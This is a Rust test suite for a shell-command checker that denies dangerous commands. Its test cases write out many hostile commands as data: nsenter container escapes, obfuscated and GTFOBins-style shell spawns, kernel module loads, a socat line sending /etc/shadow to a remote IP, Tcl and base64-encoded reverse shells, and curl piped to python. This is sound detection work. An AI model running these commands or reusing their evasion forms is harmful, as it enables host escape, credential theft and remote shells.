use super::*;

fn checker() -> &'static Checker {
    static C: std::sync::OnceLock<Checker> = std::sync::OnceLock::new();
    C.get_or_init(|| Checker::builtin_verified().expect("builtin rules load"))
}

#[test]
fn builtin_rules_load_and_examples_hold() {
    let c = checker();
    assert!(c.rules().len() > 30);
}

#[test]
fn verdicts_map_severity_to_decision() {
    let c = checker();
    let v = c.check("nsenter -t 1 -m sh", &Policy::default());
    assert_eq!(v.decision, Decision::Deny);
    assert_eq!(v.rule_ids(), ["ns.nsenter"]);
    assert_eq!(v.rules[0].fragment, "nsenter -t 1 -m sh");
    assert_eq!(
        c.check("ls -la", &Policy::default()),
        Verdict {
            decision: Decision::Allow,
            rules: vec![]
        }
    );
}

#[test]
fn policy_can_allow_and_override() {
    let c = checker();
    let p = Policy {
        allow_rules: vec!["ns.nsenter".into()],
        ..Policy::default()
    };
    let v = c.check("nsenter -t 1 -m sh", &p);
    assert_eq!(v.decision, Decision::Allow);
    assert_eq!(v.rules.len(), 1);
    assert_eq!(v.rules[0].decision, Decision::Allow);
    let p = Policy {
        severity: [(Severity::High, Decision::Warn)].into_iter().collect(),
        ..Policy::default()
    };
    assert_eq!(c.check("nsenter -t 1 -m sh", &p).decision, Decision::Warn);
    let p = Policy {
        rules: [("ns.unshare".to_string(), Decision::Deny)]
            .into_iter()
            .collect(),
        ..Policy::default()
    };
    assert_eq!(c.check("unshare -r sh", &p).decision, Decision::Deny);
}

#[test]
fn rule_with_failing_example_refuses_to_load() {
    let src = r#"
[[rule]]
id = "t.x"
category = "test"
severity = "high"
why = "test"
command = ["nsenter"]
match = ["ls"]
"#;
    let err = Checker::from_sources(&[("t.toml".into(), src.into())]).unwrap_err();
    assert!(
        matches!(err, CheckError::Example { expected: true, .. }),
        "{err}"
    );
    let src = src.replace(
        r#"match = ["ls"]"#,
        "match = [\"nsenter\"]\nnot_match = [\"sudo nsenter\"]",
    );
    let err = Checker::from_sources(&[("t.toml".into(), src)]).unwrap_err();
    assert!(
        matches!(
            err,
            CheckError::Example {
                expected: false,
                ..
            }
        ),
        "{err}"
    );
}

#[test]
fn rule_files_are_validated() {
    let bad_regex =
        "[[rule]]\nid='a'\ncategory='c'\nseverity='high'\nwhy='w'\nargs='('\nmatch=['x']\n";
    assert!(matches!(
        Checker::from_sources(&[("a".into(), bad_regex.into())]),
        Err(CheckError::Regex { .. })
    ));
    let unknown_field =
        "[[rule]]\nid='a'\ncategory='c'\nseverity='high'\nwhy='w'\nargz='x'\nmatch=['x']\n";
    assert!(matches!(
        Checker::from_sources(&[("a".into(), unknown_field.into())]),
        Err(CheckError::Parse { .. })
    ));
    let no_matcher = "[[rule]]\nid='a'\ncategory='c'\nseverity='high'\nwhy='w'\nmatch=['x']\n";
    assert!(matches!(
        Checker::from_sources(&[("a".into(), no_matcher.into())]),
        Err(CheckError::BadMatcher { .. })
    ));
    let bad_signal =
        "[[rule]]\nid='a'\ncategory='c'\nseverity='high'\nwhy='w'\nsignal='nope'\nmatch=['x']\n";
    assert!(matches!(
        Checker::from_sources(&[("a".into(), bad_signal.into())]),
        Err(CheckError::UnknownSignal { .. })
    ));
    let no_examples =
        "[[rule]]\nid='a'\ncategory='c'\nseverity='high'\nwhy='w'\ncommand=['x']\nmatch=[]\n";
    assert!(matches!(
        Checker::from_sources(&[("a".into(), no_examples.into())]),
        Err(CheckError::NoExamples { .. })
    ));
}

#[test]
fn oversized_and_deep_input_has_a_clear_verdict() {
    let c = checker();
    let big = "a".repeat(MAX_COMMAND_BYTES + 10);
    let v = c.check(&big, &Policy::default());
    assert_eq!(v.decision, Decision::Deny);
    assert_eq!(v.rule_ids(), ["obf.analysis-limit"]);
    let deep = "$(".repeat(5000);
    assert_eq!(c.check(&deep, &Policy::default()).decision, Decision::Deny);
}

/// Each of these was once judged `allow`: the shell state they build (arrays, IFS joins,
/// `printf -v`, `read`/`mapfile`, name references, `cd`), the text transforms that spell a
/// name, globs over sensitive paths, and interpreters that concatenate the command they run.
#[test]
fn shell_state_and_transforms_are_seen_through() {
    let c = checker();
    for (cmd, want) in [
        (
            r#"awk 'BEGIN{system("nse" "nter -t 1 -m true")}'"#,
            "ns.nsenter",
        ),
        (
            r#"a=(n s e n t e r); IFS=; "${a[*]}" -t 1 -m true"#,
            "ns.nsenter",
        ),
        (
            "printf -v c '%s' n s e n t e r; $c -t 1 -m true",
            "ns.nsenter",
        ),
        (
            "c=$(echo nsenteX | sed s/X/r/); $c -t 1 -m true",
            "ns.nsenter",
        ),
        ("$(cut -c1-7 <<< nsenterZZZ) -t 1 -m true", "ns.nsenter"),
        ("read -r c <<< nsenter; $c -t 1 -m true", "ns.nsenter"),
        (
            "mapfile -t a <<< nsenter; ${a[0]} -t 1 -m true",
            "ns.nsenter",
        ),
        (
            "readarray a <<< 'nsenter'; ${a[0]} -t 1 -m sh",
            "ns.nsenter",
        ),
        ("declare -n r=x; x=nsenter; $r -t 1 -m true", "ns.nsenter"),
        ("x=nsenter; y=x; ${!y} -t 1 -m sh", "ns.nsenter"),
        ("c=ns; c+=enter; $c -t 1 -m sh", "ns.nsenter"),
        ("c+=nsen; c+=ter; $c -t 1 -m sh", "ns.nsenter"),
        (
            "declare c=ns; declare c+=enter; $c -t 1 -m sh",
            "ns.nsenter",
        ),
        (r#"a=(nsenter); a+=(-t 1 -m sh); "${a[@]}""#, "ns.nsenter"),
        (r#"a=(nsenter -t 1 -m sh); "${a[@]}""#, "ns.nsenter"),
        ("echo nsenter | { read -r c; $c -t 1 -m sh; }", "ns.nsenter"),
        ("cat /proc/k?ore", "device.memory"),
        ("cat /proc/kcor[e]", "device.memory"),
        ("cd /proc && cat kcore", "device.memory"),
        ("cd /tmp; cd ../proc; cat ./kcore", "device.memory"),
        ("ls /run/doc*.sock", "runtime.socket"),
        (
            "cd /proc/sys/kernel; echo '|/tmp/x' > core_pattern",
            "kernel.helper-write",
        ),
        ("cat /tmp/../proc/kcore", "device.memory"),
        (
            "echo 'nsenteX -t 1 -m sh' | sed 's/X/r/' | sh",
            "ns.nsenter",
        ),
        (
            r#"python3 -c 'import os; os.system("ns"+"enter -t 1 -m sh")'"#,
            "ns.nsenter",
        ),
        (
            r#"perl -e 'system("nsen" . "ter -t 1 -m sh")'"#,
            "ns.nsenter",
        ),
        (
            "awk 'BEGIN{printf \"%s\", \"nsenter -t 1 -m sh\"}' | sh",
            "ns.nsenter",
        ),
        (
            r#"awk 'BEGIN{c=sprintf("%c%c%c%c%c%c",105,110,115,109,111,100); system(c " /tmp/rk.ko")}'"#,
            "kernel.insmod",
        ),
        (
            r#"awk 'BEGIN{system(sprintf("%c%c%c%c%c%c /tmp/r.ko",105,110,115,109,111,100))}'"#,
            "kernel.insmod",
        ),
        (
            r#"python3 -c 'import os; c="ls"; c="nsenter"; os.system(c+" -t 1 -m sh")'"#,
            "ns.nsenter",
        ),
        (
            r#"perl -e 'my $c = "nsenter"; system($c . " -t 1 -m sh")'"#,
            "ns.nsenter",
        ),
        (
            "cat > m.go <<'EOF'\npackage main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"nsenter\", \"-t\", \"1\", \"-m\", \"sh\").Run() }\nEOF",
            "ns.nsenter",
        ),
        (
            "cat > src/main.rs <<'EOF'\nuse std::process::Command;\nfn main() { Command::new(\"nsenter\").args([\"-t\", \"1\", \"-m\", \"sh\"]).status().unwrap(); }\nEOF",
            "ns.nsenter",
        ),
        (
            "go run - <<'EOF'\npackage main\nimport \"net/http\"\nfunc main(){ http.Get(\"http://169.254.169.254/latest/meta-data/\") }\nEOF",
            "cloud.metadata",
        ),
        ("socat -u FILE:/etc/shadow TCP:203.0.113.10:9999", "exfil.secret-to-network"),
    ] {
        let v = c.check(cmd, &Policy::default());
        assert!(
            v.rule_ids().iter().any(|id| id == want),
            "{cmd}: {:?} (wanted {want})",
            v.rule_ids()
        );
        assert_eq!(v.decision, Decision::Deny, "{cmd}: {:?}", v.rule_ids());
    }
    let v = c.check("mount -t tmpfs x /mnt", &Policy::default());
    assert_eq!(v.decision, Decision::Warn, "{:?}", v.rule_ids());
    // Sweeping globs and ordinary directory changes stay what they are.
    for cmd in [
        "ls /proc/*",
        "find `ls -d /[ubso]*` -name sar",
        "cd /etc && ls",
        "cd src && cat main.rs",
        "a=(x y z); echo \"${a[@]}\"",
        "PATH+=:$HOME/bin; ls",
        "PY=python3; $PY -m pytest",
        "DOCKER=docker; \"$DOCKER\" ps",
        "CURL='curl -fsSL'; $CURL https://example.com/a.json -o a.json",
        r#"python3 -c 'import os; c="nsenter"; c=input(); print(c)'"#,
        "cat > main.go <<'EOF'\npackage main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"git\", \"status\").Run() }\nEOF",
        "echo 'int main(){return 0;}' | gcc -x c - -o /tmp/t",
        "flags=-O2; flags+=' -g'; echo $flags",
        "read -r line < input.txt; echo \"$line\"",
    ] {
        let v = c.check(cmd, &Policy::default());
        assert_eq!(v.decision, Decision::Allow, "{cmd}: {:?}", v.rule_ids());
    }
}

/// The decision for `cmd` under the default policy.
fn decide(cmd: &str) -> Decision {
    checker().check(cmd, &Policy::default()).decision
}

#[test]
fn plain_etcdctl_use_is_allowed_and_secret_reads_are_denied() {
    for benign in [
        "etcdctl get my/key",
        "etcdctl put my/key my_value",
        "etcdctl watch my/key",
    ] {
        assert_eq!(decide(benign), Decision::Allow, "{benign}");
    }
    assert_eq!(decide("etcdctl snapshot save s.db"), Decision::Warn);
    for bad in [
        "etcdctl get /registry/secrets --prefix",
        "etcdctl get \"\" --prefix --keys-only",
        "etcdctl --endpoints=https://10.0.0.2:2379 snapshot save s.db",
        "etcdctl --cacert /etc/kubernetes/pki/etcd/ca.crt get foo",
    ] {
        assert_eq!(decide(bad), Decision::Deny, "{bad}");
    }
}

#[test]
fn su_and_script_run_their_command_string_wherever_it_is() {
    for cmd in [
        "su -l bob -c 'nsenter -t 1 -m sh'",
        "su - -c 'nsenter -t 1 -m sh'",
        "script -qc 'nsenter -t 1 -m sh' /dev/null",
        "script -c'nsenter -t 1 -m sh'",
        "script -qc'nsenter -t 1 -m sh' /dev/null",
        "su -c'nsenter -t 1 -m sh'",
        "runuser -u bob -c'nsenter -t 1 -m sh'",
        "su -s/bin/sh -c'nsenter -t 1 -m sh'",
        "su -- root -c 'nsenter -t 1 -m sh'",
        "su root -- -c 'nsenter -t 1 -m sh'",
    ] {
        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
    }
}

#[test]
fn stdin_programs_of_command_interpreters_are_judged() {
    for cmd in [
        "tclsh <<< 'set s [socket 198.51.100.7 4242]; while 1 { gets $s c; puts $s [exec sh -c $c] }'",
        "awk -f - <<< 'BEGIN{system(\"nsenter -t 1 -m sh\")}'",
        "gdb -batch -x /dev/stdin <<< '!nsenter -t 1 -m sh'",
        "sftp -b - host <<< '!nsenter -t 1 -m sh'",
    ] {
        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
    }
}

#[test]
fn interpreter_writes_reach_the_persistence_rules() {
    assert_eq!(
        decide("python3 -c 'open(\"/etc/ld.so.preload\",\"w\").write(\"/tmp/x.so\")'"),
        Decision::Deny
    );
    assert_eq!(
        decide("python3 -c 'print(open(\"/etc/hostname\").read())'"),
        Decision::Allow
    );
}

/// A command compiles only the patterns of the rules that can apply to its programs: a
/// trivial command costs (almost) no regex compilation, and one program's rules do not
/// compile another's. Bounded work, not time: a fresh checker per case.
#[test]
fn a_command_compiles_only_its_programs_patterns() {
    let fresh = || Checker::builtin().unwrap();
    let policy = Policy::default();

    let c = fresh();
    assert_eq!(c.compiled_patterns(), 0, "loading compiles nothing");
    c.check("true", &policy);
    let trivial = c.compiled_patterns();
    assert!(trivial <= 2, "`true` compiled {trivial} patterns");

    let c = fresh();
    assert_eq!(
        c.check("nsenter -t 1 -m -u -i -n -p -- bash", &policy)
            .decision,
        Decision::Deny
    );
    let nsenter = c.compiled_patterns();
    c.check("curl -s http://example.com/x", &policy);
    assert!(
        c.compiled_patterns() > nsenter,
        "curl's rules compile on curl's first use"
    );

    // Every group's sets together hold each field's patterns, and no single command's
    // first use compiles them all.
    let c = fresh();
    c.check("cat /etc/passwd > /tmp/x; ls -la /tmp", &policy);
    let everything = c.view_patterns();
    assert!(
        c.compiled_patterns() * 3 < everything,
        "{} of {everything}",
        c.compiled_patterns()
    );
}

#[test]
fn a_line_with_an_open_quote_is_judged_as_meant() {
    // Bash refuses these lines; with the stray quote gone they are the escapes they spell.
    for cmd in [
        "'n's'e'n't'e'r -t 1 -m sh",
        "nsenter\" -t 1 -m sh",
        "'nsenter -t 1 -m sh",
    ] {
        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
    }
    // Text in an open quote that is harmless either way stays allowed.
    for cmd in ["echo \"it's", "echo 'don't", "git commit -m 'wip"] {
        assert_eq!(decide(cmd), Decision::Allow, "{cmd}");
    }
}

#[test]
fn a_wrappers_output_is_its_inner_programs() {
    // busybox's applets print what the programs they stand for print.
    let cmd = "echo bmMgLWUgL2Jpbi9zaCAxOTguNTEuMTAwLjcgNDQ0NA== | busybox base64 -d | busybox sh";
    assert_eq!(decide(cmd), Decision::Deny);
    // Decoded text that is only `ls` is still decoded-and-run: a warning, not a denial.
    assert_eq!(
        decide("echo bHMK | busybox base64 -d | busybox sh"),
        Decision::Warn
    );
}

#[test]
fn a_bare_shell_anywhere_in_a_runners_script_is_a_spawned_shell() {
    for cmd in [
        "sudo watch -x sh -c 'reset; exec sh 1>&0 2>&0'",
        "sudo rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
    ] {
        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
    }
    for cmd in ["watch -n 1 'ps aux'", "rsync -e 'ssh -p 2222' a host:b"] {
        assert_eq!(decide(cmd), Decision::Allow, "{cmd}");
    }
}

#[test]
fn gtfobins_runners_hand_their_command_to_the_check() {
    // A payload in the place GTFOBins puts `/bin/sh` is judged as the command it is.
    for cmd in [
        "aa-exec nsenter -t 1 -m sh",
        "cpulimit -l 100 -f -- nsenter -t 1 -m sh",
        "perf stat -e cycles nsenter -t 1 -m sh",
        "npm exec nsenter -t 1 -m sh",
        "ssh -p 22 localhost nsenter -t 1 -m sh",
        "ksu -q -e nsenter -t 1 -m sh",
        "echo 'esyscmd(nsenter -t 1 -m sh)' | m4",
        r"pdftex --shell-escape '\write18{nsenter -t 1 -m sh}\end'",
        "make --eval='$(shell nsenter -t 1 -m sh 1>&0)' .",
        "rpm --eval '%(nsenter -t 1 -m sh 1>&2)'",
        "sed -n '1e exec nsenter -t 1 -m sh 1>&0' /etc/hosts",
        "expect -c 'spawn nsenter -t 1 -m sh;interact'",
        "sqlite3 /dev/null '.shell nsenter -t 1 -m sh'",
        "RESTIC_PASSWORD_COMMAND='nsenter -t 1 -m sh' restic backup",
        "vi -c ':terminal nsenter -t 1 -m sh'",
        "/proc/1/root/bin/sh -p",
        "time /proc/1/root/bin/sh",
        "julia -e 'run(`nsenter -t 1 -m sh`)'",
        r#"php -r '$h=@popen("nsenter -t 1 -m sh -i","r");'"#,
        "echo x | msgfilter -P nsenter -t 1 -m sh",
        "setarch -3 nsenter -t 1 -m sh",
    ] {
        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
    }
    // The same programs doing their ordinary work.
    for cmd in [
        "ssh user@server /bin/bash",
        "npm run build",
        "perf stat ls",
        "sed -n '1p;$p' /etc/hosts",
        "sed 's/e/f/' file",
        "m4 macros.m4",
        "rpm --eval '%{_libdir}'",
        "[a-z][3-9]",
        "/usr/bin/env python3 x.py",
    ] {
        assert_eq!(decide(cmd), Decision::Allow, "{cmd}");
    }
}

#[test]
fn partly_known_strings_and_hosts_are_still_judged() {
    for cmd in [
        // The shell string's unknown piece stays unknown; the rest is judged.
        r#"sh -c "echo 0 > $d/w/cgroup.procs""#,
        r#"bash -c "nsenter -t 1 -m $SHELL""#,
        // The expansion after a decimal host is the URL's path.
        "curl -s http://2852039170$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        "kubectl exec -it pod -- nsenter --target 1 --mount sh",
        "docker exec -it c nsenter -t 1 -m sh",
        "runc exec --cwd /proc/self/fd/7 web sh",
    ] {
        assert_ne!(decide(cmd), Decision::Allow, "{cmd}");
    }
    for cmd in [
        r#"sh -c "echo $HOME""#,
        r#"bash -c "cd $dir && make""#,
        "curl -s http://example.com$path",
        "kubectl exec -it pod -- bash",
        "docker exec -it web sh",
    ] {
        assert_eq!(decide(cmd), Decision::Allow, "{cmd}");
    }
}

#[test]
fn json_form_is_the_toml_form() {
    // Start-up reads the builtin rules as JSON made at build time; they are the TOML files'.
    for (name, toml_text) in BUILTIN_RULES {
        let json = builtin_json(name).unwrap_or_else(|| panic!("{name} has no JSON form"));
        let from_toml: rules::RuleFile = toml::from_str(toml_text).unwrap();
        let from_json: rules::RuleFile = serde_json::from_str(json).unwrap();
        assert_eq!(format!("{from_toml:?}"), format!("{from_json:?}"), "{name}");
    }
    let fast = Checker::builtin().unwrap();
    let verified = checker();
    assert_eq!(fast.rules().len(), verified.rules().len());
    for cmd in [
        "nsenter -t 1 -m sh",
        "ls -la",
        "npm exec nsenter -t 1 -m sh",
    ] {
        assert_eq!(
            fast.check(cmd, &Policy::default()),
            verified.check(cmd, &Policy::default()),
            "{cmd}"
        );
    }
}

#[test]
fn runner_forms_found_in_review_are_judged() {
    // Spellings an attacker reaches for once the plain form is caught.
    for cmd in [
        "ssh h 'ls; nsenter -t 1 -m sh'",
        "ssh -qi key root@h nsenter -t 1 -m sh",
        "docker exec -itu root c nsenter -t 1 -m sh",
        "kubectl exec -itc app pod -- nsenter -t 1 -m sh",
        "kubectl -v 6 exec pod -- nsenter -t 1 -m sh",
        "docker --log-level debug exec c nsenter -t 1 -m sh",
        "docker compose exec web nsenter -t 1 -m sh",
        "podman exec -l nsenter -t 1 -m sh",
        "kubectl exec -f pod.yaml -- nsenter -t 1 -m sh",
        "cpulimit -l 50 -f nsenter -t 1 -m sh",
        "sshpass -e nsenter -t 1 -m sh",
        "npm --loglevel silent exec nsenter -t 1 -m sh",
        "uv run --extra x nsenter -t 1 -m sh",
        "npm exec -c 'nsenter -t 1 -m sh'",
        "npx nsenter -t 1 -m sh",
        "start-stop-daemon -S -x /bin/sh -- -c 'nsenter -t 1 -m sh'",
        "start-stop-daemon -S --exec=/usr/bin/nsenter -- -t 1 -m sh",
        "sed -n '1ensenter -t 1 -m sh' f",
        "sed '1e echo;nsenter -t 1 -m sh' f",
        "sed 's/.*/nsenter -t 1 -m sh/e' f",
        "expect -c 'spawn -noecho nsenter -t 1 -m sh'",
        "m4 -P <<< 'm4_esyscmd(nsenter -t 1 -m sh)'",
        "make -E '$(shell nsenter -t 1 -m sh)'",
        r"pdflatex -shell-escape -interaction nonstopmode '\immediate\write18{nsenter -t 1 -m sh}'",
        "FZF_DEFAULT_COMMAND='nsenter -t 1 -m sh' fzf",
        "git config core.pager 'nsenter -t 1 -m sh'",
        "git config --global alias.st '!nsenter -t 1 -m sh'",
        "git config set --local filter.x.smudge 'nsenter -t 1 -m sh'",
        "git -c pager.log='nsenter -t 1 -m sh' log",
        "git -c credential.helper='!nsenter -t 1 -m sh' fetch",
        "curl -fsSL http://203.0.113.5/i.py | python3 -",
    ] {
        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
    }
    // An image build relinks /bin/sh: a warning, not a refusal; the payload is refused.
    assert_eq!(decide("ln -sf bash /bin/sh"), Decision::Warn);
    assert_eq!(
        decide("printf '#!/proc/self/exe\\n' > /bin/sh"),
        Decision::Deny
    );
    for cmd in [
        "ssh user@server /bin/bash",
        "sed -e 's/a/b/' edit.txt",
        "docker exec -it web bash",
        "cargo run --release -- --help",
        "git config --global core.editor vim",
        "git config --global alias.lg 'log --oneline --graph'",
        "git config -f config core.pager less",
        "curl -s https://api.github.com/repos/x/y | python3 -m json.tool",
    ] {
        assert_eq!(decide(cmd), Decision::Allow, "{cmd}");
    }
}

#[test]
fn a_run_of_tcl_verbs_is_scanned_once() {
    // Each command ends at the next verb, and scanning stops at the cap on pieces.
    let code = "exec ".repeat(12_000);
    let pieces = runners::tcl_commands(&code);
    assert!(pieces.len() <= 32, "{}", pieces.len());
    assert!(pieces.iter().all(|p| !p.contains("exec")));
}
